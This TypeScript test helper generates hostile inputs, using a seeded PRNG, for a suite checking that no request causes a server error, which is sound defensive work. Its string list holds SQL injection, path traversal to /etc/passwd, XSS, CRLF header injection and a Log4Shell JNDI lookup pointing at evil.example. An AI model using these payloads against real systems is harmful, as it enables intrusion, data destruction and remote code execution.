/**
 * A small deterministic generator of hostile inputs for the "no input produces a 5xx" suites:
 * a seeded PRNG (mulberry32), so a failure names the seed and the request number and replays exactly.
 */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** A float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(max: number): number {
    return Math.floor(this.next() * max);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }
}

/** Strings that break parsers, databases, HTML, headers and URLs; some are deliberately not valid UTF-16. */
export const ODD_STRINGS: readonly string[] = [
  '',
  ' ',
  'x'.repeat(10_000),
  'c'.repeat(129),
  'u'.repeat(256),
  '😀'.repeat(64),
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ü ß İ ﬃ',
  'e\u0301\u0301\u0301',
  '\u202egnp.exe',
  '\ufeff\ufffe\uffff',
  '\ud800',
  'a\udc00b',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u001b[31m\u007f',
  '\r\n',
  'x\r\nLocation: https://evil.example\r\nSet-Cookie: a=b',
  '\t\v\f',
  "' OR '1'='1' -- ",
  '"; DROP TABLE users; --',
  '\\',
  '%',
  '%ZZ',
  '%C3%28',
  '%00',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'\"><svg/onload=alert(1)>",
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '-1',
  '0',
  '1e309',
  'NaN',
  '0x1f',
  '99999999999999999999999',
  '1.5',
  'true',
  'null',
  '[]',
  '{}',
  'openid openid',
  'openid\u0000admin',
  'admin',
  ' openid  profile ',
  'https://evil.example/cb',
  '+4915112345678',
  'user@example.com',
];

const UNRESERVED = /[A-Za-z0-9\-._~]/;

/**
 * Percent-encodes a value for a query string or form body, as UTF-8. Lone surrogates become U+FFFD
 * (what a browser sends). With `raw`, '%' and the characters a URL may carry literally are left as
 * they are, so invalid escapes such as "%ZZ" and "%C3%28" reach the server.
 */
export function percentEncode(value: string, raw = false): string {
  let out = '';
  for (const char of value) {
    if (UNRESERVED.test(char) || (raw && /[%!$'()*,/:;@?[\]]/.test(char))) out += char;
    else for (const byte of Buffer.from(char, 'utf8')) out += `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** A form/query string from name-value pairs; a pair may repeat a name. */
export function encodePairs(pairs: [string, string][], rng: Rng): string {
  return pairs.map(([name, value]) => `${percentEncode(name, rng.chance(0.2))}=${percentEncode(value, rng.chance(0.3))}`).join('&');
}

/** An arbitrary JSON value, nested up to `depth`. */
export function oddJson(rng: Rng, depth = 3): unknown {
  const kind = rng.int(depth > 0 ? 9 : 6);
  switch (kind) {
    case 0:
      return rng.pick(ODD_STRINGS);
    case 1:
      return rng.pick([0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, 2 ** 53]);
    case 2:
      return rng.chance(0.5);
    case 3:
      return null;
    case 4:
      return rng.pick(ODD_STRINGS).slice(0, 64);
    case 5:
      return rng.pick(['', 'x', '😀']);
    case 6:
    case 7:
      return Array.from({ length: rng.int(4) }, () => oddJson(rng, depth - 1));
    default: {
      const object: Record<string, unknown> = {};
      for (let i = rng.int(4); i > 0; i--) object[rng.pick(['a', 'keys', 'kty', '$ref', '0', 'x'.repeat(300)])] = oddJson(rng, depth - 1);
      return object;
    }
  }
}

/** Text in a response that looks like a stack trace or an internal path. */
export const STACK_LIKE = /\bat [\w.<>]+ \(|\bat .*\.(?:ts|js):\d+|node_modules|\/src\/|QueryFailedError|TypeORMError|ER_[A-Z_]{4,}|SQLITE_[A-Z]+/;
